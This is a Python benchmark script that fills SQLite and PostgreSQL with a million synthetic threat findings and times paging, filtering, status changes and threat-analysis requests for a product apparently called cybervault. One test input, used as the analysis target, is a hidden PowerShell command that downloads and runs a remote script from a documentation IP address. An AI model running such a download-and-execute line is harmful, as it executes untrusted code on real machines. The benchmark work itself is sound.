"""Threats of many tenants by the million: reading, handling and assessing them, on SQLite and on PostgreSQL.

Claims: the last page of a list costs at most 1.2 times the first; lists, filtered lists and quick assessments cost with
a million threats at most 1.3 times what they cost with ten thousand. Told beside it: a change of status, a filter that
nothing fits, and a quick assessment against the same endpoint bare, as the web framework's own documentation writes it,
which assesses and keeps nothing. Processor time is the server's own; PostgreSQL's processes are not in it.
"""

import argparse
import asyncio
import json
import shutil
import sqlite3
import statistics
import subprocess
import sys
import tempfile
import time
from collections.abc import Iterator, Sequence
from contextlib import contextmanager
from dataclasses import dataclass, field
from enum import StrEnum
from itertools import count
from pathlib import Path
from typing import Final
from urllib.parse import quote

import asyncpg  # type: ignore[import-untyped] # it brings no types
import uvloop
from fastapi import FastAPI
from granian.constants import Interfaces, Loops
from granian.server import Server
from starlette.types import ASGIApp

from cybervault.access.audit import OPERATOR
from cybervault.app.product import open_access
from cybervault.domain.findings import Status
from cybervault.domain.limits import CallClass, LimitOverride
from cybervault.domain.principals import Plan, Scope
from cybervault.domain.secrets import Secret
from cybervault.faces.paging import Cursors, Mark
from cybervault.faces.v1.threat_shapes import AnalyzeReply, AnalyzeRequest
from cybervault.faces.v3.filters import read_filter, read_sort, spelled_filter
from cybervault.settings import Settings
from tests.fakes.engines import a_postgres
from tests.fakes.keys import minted
from tests.fakes.knowledge import compile_small_knowledge
from tests.fakes.loopback import HOST
from tests.fakes.processes import Served, environment, family, free_port, processor_seconds, served, wait_for

FINDINGS: Final = 1_000_000
FEW: Final = 10_000
TENANTS: Final = 20
LIMIT: Final = 10
# Many short rounds in turn: what else the machine does then meets all cases alike.
ROUNDS: Final = 12
REQUESTS: Final = 50
CONNECTIONS: Final = 8
PATCHED: Final = 50
NO_LIMIT: Final = 100_000_000
PEPPER: Final = "a pepper that is long enough for a benchmark"
PAGE_TARGET: Final = "target at most 1.2"
GROWTH_TARGET: Final = "target at most 1.3"

# Prime to the number of ids, so that all differ and lie in no order.
ID_STEP: Final = 387_420_489
IDS: Final = 10_000_000_000
BEGINNING: Final = 1_700_000_000
STATUSES: Final = tuple(Status)
NUMBERS: Final = """WITH RECURSIVE numbers(n) AS (
    SELECT CAST(0 AS BIGINT) UNION ALL SELECT n + 1 FROM numbers WHERE n + 1 < {count}
)"""
ID: Final = f"'thr_' || substr(CAST({IDS} + n * {ID_STEP} % {IDS} AS TEXT), 2)"
TENANT: Final = f"CASE n % {TENANTS} WHEN 0 THEN '{{tenant}}' ELSE 'tv_' || (100000000000 + n % {TENANTS}) END"
ADDRESS: Final = "'10.' || (n / 65536) || '.' || (n / 256 % 256) || '.' || (n % 256)"
NAMED: Final = " ".join(f"WHEN {place} THEN '{status}'" for place, status in enumerate(STATUSES))
STATUS: Final = f"CASE n / {TENANTS} / 5 % {len(STATUSES)} {NAMED} END"
FILL: Final = (
    f"""
    INSERT INTO findings (id, tenant_id, created_at, last_seen_at, updated_at, updated_by, type, severity, score,
        verdict, status, kind, value, source_ip, sightings, assessment_id, indicators, techniques)
    {NUMBERS} SELECT {ID}, {TENANT}, {BEGINNING} + n, {BEGINNING} + n, {BEGINNING} + n, 'key', 'botnet',
        n / {TENANTS} % 5 + 1, n / {TENANTS} % 101, 'malicious',
        {STATUS},
        'ipv4', {ADDRESS}, {ADDRESS}, 1, 'asm_' || (1000000000 + n), '["ipv4:' || {ADDRESS} || '"]', '["T1571"]'
    FROM numbers
    """,  # noqa: S608 - our own texts
    f"""
    INSERT INTO finding_tags (finding_id, tenant_id, name, value)
    {NUMBERS} SELECT {ID}, {TENANT}, 'indicator', 'ipv4:' || {ADDRESS} FROM numbers
    UNION ALL SELECT {ID}, {TENANT}, 'technique', 'T1571' FROM numbers
    """,  # noqa: S608 - same
)


class Case(StrEnum):
    """What is asked for."""

    FIRST = "first page"
    LAST = "last page"
    FILTERED = "filtered page"
    UNFIT = "filter that nothing fits"
    PATCH = "change of status"
    ANALYZE = "quick assessment"
    SIGHT = "quick assessment of a new threat"


FILTERS: Final = {
    Case.FIRST: None,
    Case.LAST: None,
    Case.FILTERED: '{"severity":"high","status":"new"}',
    Case.UNFIT: '{"severity":"high","status":"new","verdict":"benign"}',
}
GROWING: Final = (Case.FIRST, Case.LAST, Case.FILTERED, Case.ANALYZE, Case.SIGHT)
MANY_AT_ONCE: Final = frozenset({Case.ANALYZE, Case.SIGHT})


@dataclass(frozen=True, slots=True)
class Given:
    """Where the rows lie: a folder, and an address where they are on PostgreSQL."""

    folder: Path
    url: str | None

    @property
    def settings(self) -> Settings:
        """For the product in this process."""
        return Settings(
            data=self.folder, pepper=Secret(PEPPER), database_url=Secret(self.url) if self.url is not None else None
        )

    @property
    def variables(self) -> dict[str, str]:
        """For the product in a process of its own."""
        return {"CYBERVAULT_PEPPER": PEPPER} | ({"CYBERVAULT_DATABASE_URL": self.url} if self.url else {})


@dataclass(frozen=True, slots=True)
class Caller:
    """The key of one tenant of many, and the cursor behind its last page but one."""

    secret: str
    cursor: str
    numbers: Iterator[int] = field(default_factory=count)
    changes: Iterator[int] = field(default_factory=count)

    def request(self, case: Case) -> bytes:
        """The next request of a case."""
        number = next(self.numbers)
        if case in FILTERS:
            narrowed = FILTERS[case]
            rest = "" if narrowed is None else f"&filter={quote(narrowed)}"
            rest += f"&cursor={self.cursor}" if case is Case.LAST else ""
            return self._written("GET", f"/v3/threats?limit={LIMIT}{rest}")
        if case is Case.PATCH:
            # Each time round another status, so that each request changes something.
            turn, place = divmod(next(self.changes), PATCHED)
            status = (Status.ACKNOWLEDGED, Status.INVESTIGATING)[turn % 2]
            return self._written("PATCH", f"/v3/threats/{id_of(place * TENANTS)}", {"status": status})
        url = f"http://203.0.113.7/{number}.ps1"
        target = f"198.18.{number // 256 % 256}.{number % 256}"
        if case is Case.SIGHT:
            target = f"powershell -w hidden IEX (New-Object Net.WebClient).DownloadString('{url}')"
        return self._written("POST", "/v1/threats/analyze", {"target": target, "mode": "quick"})

    def _written(self, method: str, path: str, body: object = None) -> bytes:
        content = b"" if body is None else json.dumps(body).encode()
        head = f"{method} {path} HTTP/1.1\r\nHost: x\r\nAuthorization: Bearer {self.secret}\r\n"
        rest = f"Content-Type: application/json\r\nContent-Length: {len(content)}\r\n\r\n"
        return (head + rest).encode() + content


@dataclass(slots=True)
class Taken:
    """What all rounds of a case took: milliseconds of each request, rates a second, processor milliseconds each."""

    took: list[float] = field(default_factory=list)
    rates: list[float] = field(default_factory=list)
    costs: list[float] = field(default_factory=list)

    @property
    def p50(self) -> float:
        """The middle one."""
        return statistics.median(self.took)

    @property
    def p99(self) -> float:
        """What one in a hundred exceeds."""
        return statistics.quantiles(self.took, n=100)[98]

    @property
    def rate(self) -> float:
        """The middle one."""
        return statistics.median(self.rates)

    @property
    def cost(self) -> float:
        """The mean one, for a short round has few ticks of the processor's clock."""
        return statistics.fmean(self.costs)


def id_of(number: int) -> str:
    """The same that `ID` says."""
    return f"thr_{number * ID_STEP % IDS:010}"


def last_cursor(cursors: Cursors, tenant: str, threats: int) -> str:
    """The cursor that a caller has who has gone through all pages but one."""
    number = (threats - 1) % LIMIT + 1  # so many rows are older than the row it stands on
    marks: tuple[Mark, ...] = (float(BEGINNING + number * TENANTS), id_of(number * TENANTS))
    order, is_descending = read_sort(None)
    bound = f"filter={spelled_filter(read_filter(None))}", f"sort={order}:{is_descending}"
    cursor = cursors.write(marks, tenant, "/v3/threats", *bound)
    assert cursor is not None
    return cursor


async def prepared(given: Given, findings: int) -> Caller:
    """The tables with so many rows in them, and one of their tenants, whom no limit stops."""
    async with open_access(given.settings) as access:
        tenant = await access.tenants.create("Acme", Plan.ENTERPRISE, actor=OPERATOR)
        for face in ("v1", "v3"):
            limit = LimitOverride(face, CallClass.ANY, minute=NO_LIMIT, hour=NO_LIMIT, burst_percent=0)
            await access.tenants.set_limit(tenant.id, limit, actor=OPERATOR)
        key = await minted(access, scopes=frozenset({Scope.THREAT_READ, Scope.THREAT_WRITE}))
        cursor = last_cursor(access.cursors, tenant.id, findings // TENANTS)
    statements = [statement.replace("{count}", str(findings)).replace("{tenant}", tenant.id) for statement in FILL]
    await (
        fill_file(given.folder / "cybervault.db", statements)
        if given.url is None
        else fill_server(given.url, statements)
    )
    return Caller(key.secret.reveal(), cursor)


async def fill_file(file: Path, statements: Sequence[str]) -> None:
    """Run them beside the product; indexes are made anew behind them, which takes a fraction of the time."""
    connection = sqlite3.connect(file, isolation_level=None)
    connection.executescript("PRAGMA cache_size = -524288; PRAGMA synchronous = OFF")
    indexes = connection.execute(
        "SELECT name, sql FROM sqlite_master WHERE type = 'index' AND tbl_name LIKE 'finding%' AND sql IS NOT NULL"
    ).fetchall()
    texts = [f"DROP INDEX {name}" for name, _ in indexes] + [*statements] + [text for _, text in indexes]
    for text in ("BEGIN", *texts, "COMMIT", "PRAGMA wal_checkpoint(TRUNCATE)"):
        connection.execute(text)
    connection.close()


async def fill_server(url: str, statements: Sequence[str]) -> None:
    """The same on PostgreSQL."""
    connection = await asyncpg.connect(url)
    indexes = await connection.fetch(
        "SELECT indexname, indexdef FROM pg_indexes WHERE tablename LIKE 'finding%' AND indexname LIKE 'ix%'"
    )
    texts = [f"DROP INDEX {row[0]}" for row in indexes] + [*statements] + [row[1] for row in indexes]
    for text in (
        "SET maintenance_work_mem = '256MB'",
        *texts,
        "VACUUM ANALYZE findings",
        "VACUUM ANALYZE finding_tags",
    ):
        await connection.execute(text)
    await connection.close()


async def load(port: int, requests: Sequence[bytes], connections: int) -> list[float]:
    """Milliseconds of each request, over a few kept connections."""
    left, took = iter(requests), list[float]()

    async def some() -> None:
        reader, writer = await asyncio.open_connection(HOST, port)
        for request in left:
            begun = time.perf_counter()
            writer.write(request)
            head = (await reader.readuntil(b"\r\n\r\n")).lower()
            body = await reader.readexactly(int(head.partition(b"content-length:")[2].partition(b"\r\n")[0]))
            took.append((time.perf_counter() - begun) * 1_000)
            assert head.startswith(b"http/1.1 200"), head + body
        writer.close()

    async with asyncio.TaskGroup() as group:
        for _ in range(connections):
            group.create_task(some())
    return took


def measure(place: tuple[Served, Caller], case: Case, into: Taken) -> None:
    """One round of a case."""
    server, caller = place
    requests = [caller.request(case) for _ in range(REQUESTS)]
    pids = family(server.pid)
    before, begun = processor_seconds(pids), time.perf_counter()
    into.took += uvloop.run(load(server.port, requests, CONNECTIONS if case in MANY_AT_ONCE else 1))
    into.rates.append(REQUESTS / (time.perf_counter() - begun))
    into.costs.append((processor_seconds(pids) - before) / REQUESTS * 1_000)


def bare_app() -> ASGIApp:
    """Quick assessment without frame, caller, limits, usage and rows."""
    app = FastAPI()

    async def analyze(request: AnalyzeRequest) -> AnalyzeReply:
        return AnalyzeReply(
            request_id="req_8f3a2c1d",
            threat_score=0.1 if request.mode == "quick" else 0.2,
            classification="unknown",
            family=None,
            indicators=[],
            action="monitor",
            timestamp="2025-04-12T08:41:00Z",
        )

    async def alive() -> dict[str, str]:
        return {"status": "ok"}

    app.add_api_route("/v1/threats/analyze", analyze, methods=["POST"], response_model=AnalyzeReply)
    app.add_api_route("/api/health", alive)
    return app


def serve_bare(port: int) -> None:
    """The same server program with the same settings."""
    Server(
        "benchmarks.threats:bare_app", factory=True, address=HOST, port=port, interface=Interfaces.ASGI,
        loop=Loops.uvloop, log_access=False,
    ).serve()  # fmt: skip


@contextmanager
def bare(output: Path) -> Iterator[Served]:
    """A process of it."""
    port = free_port()
    words = [sys.executable, __file__, "--bare", str(port)]
    with (
        output.open("wb") as out,
        subprocess.Popen(
            words, env=environment({"PYTHONPATH": "src:."}), stdout=out, stderr=subprocess.STDOUT
        ) as process,
    ):
        server = Served(port, process.pid, output)
        try:
            wait_for(server, process)
            yield server
        finally:
            process.terminate()
            process.wait(15)


def rounds_on(places: Sequence[tuple[Served, Caller]], other: Served) -> tuple[list[dict[Case, Taken]], Taken]:
    """All rounds, those of few and of many threats in turn."""
    found: list[dict[Case, Taken]] = []
    bare_one = Taken()
    for number in range(ROUNDS + 1):
        if number < 2:  # the first warms up
            found, bare_one = [{case: Taken() for case in Case} for _ in places], Taken()
        for case in Case:
            for place, taken in zip(places, found, strict=True):
                measure(place, case, taken[case])
        measure((other, places[0][1]), Case.ANALYZE, bare_one)
    return found, bare_one


def compare(engine: str, folder: Path, sizes: Sequence[tuple[int, str | None]]) -> None:
    """A line for each case and number of threats, and the ratios."""
    knowledge = compile_small_knowledge(folder / "small")
    places: list[tuple[Given, Caller]] = []
    for size, url in sizes:
        given = Given(folder / f"{len(places)}", url)
        shutil.copytree(knowledge, given.folder / "knowledge")
        begun = time.perf_counter()
        places.append((given, uvloop.run(prepared(given, size))))
        print(f"{engine}, {size:,} threats inserted in {time.perf_counter() - begun:.0f} s", flush=True)
    (few, few_caller), (many, many_caller) = places
    with (
        served(few.folder, few.variables, folder / "few") as few_server,
        served(many.folder, many.variables, folder / "many") as many_server,
        bare(folder / "bare") as other,
    ):
        found, bare_one = rounds_on([(few_server, few_caller), (many_server, many_caller)], other)
    for (size, _), taken in zip(sizes, found, strict=True):
        say_cases(f"{engine}, {size:,}", taken, size // TENANTS // LIMIT)
    say_ratios(engine, found, bare_one)


def say_cases(what: str, taken: dict[Case, Taken], pages: int) -> None:
    """A line for each case, and the ratio of the pages."""
    for case, one in taken.items():
        name = f"{case} ({pages:,})" if case is Case.LAST else case
        print(f"{what}, {name}: p50 {one.p50:.2f} ms, p99 {one.p99:.2f} ms, {one.cost:.3f} ms CPU each")
    first, last = taken[Case.FIRST], taken[Case.LAST]
    print(
        f"{what}: page {pages:,} against page 1: ratio {last.p50 / first.p50:.2f} at p50 ({PAGE_TARGET}), "
        f"{last.p99 / first.p99:.2f} at p99"
    )


def say_ratios(engine: str, found: Sequence[dict[Case, Taken]], bare_one: Taken) -> None:
    """Assessments against the bare endpoint, and what more threats cost."""
    few, many = found
    print(f"{engine}, bare assessment: {bare_one.rate:.0f} a second, {bare_one.cost:.3f} ms CPU each")
    for case in (Case.ANALYZE, Case.SIGHT):
        one = many[case]
        print(
            f"{engine}, {case}: {one.rate:.0f} a second, {1_000 / one.cost:.0f} a second and core; "
            f"ratio {one.rate / bare_one.rate:.2f} of the bare rate, {one.cost / bare_one.cost:.2f} times its "
            "processor time"
        )
    for case in GROWING:
        print(
            f"{engine}, {case}, growth: ratio {many[case].p50 / few[case].p50:.2f} at p50 ({GROWTH_TARGET}), "
            f"{many[case].cost / few[case].cost:.2f} in processor time"
        )


def main() -> None:
    """Print lines for both engines."""
    parser = argparse.ArgumentParser(description=__doc__)
    parser.add_argument("--findings", type=int, default=FINDINGS, help=f"threats of {TENANTS} tenants in all")
    parser.add_argument("--bare", type=int, metavar="PORT", help="serve the bare endpoint instead")
    asked = parser.parse_args()
    if asked.bare is not None:
        serve_bare(asked.bare)
        return
    with tempfile.TemporaryDirectory() as name, a_postgres() as server:
        sizes = FEW, asked.findings
        compare("SQLite", Path(name) / "sqlite", [(size, None) for size in sizes])
        compare("PostgreSQL", Path(name) / "postgres", [(size, server.fresh_database()) for size in sizes])


if __name__ == "__main__":
    main()
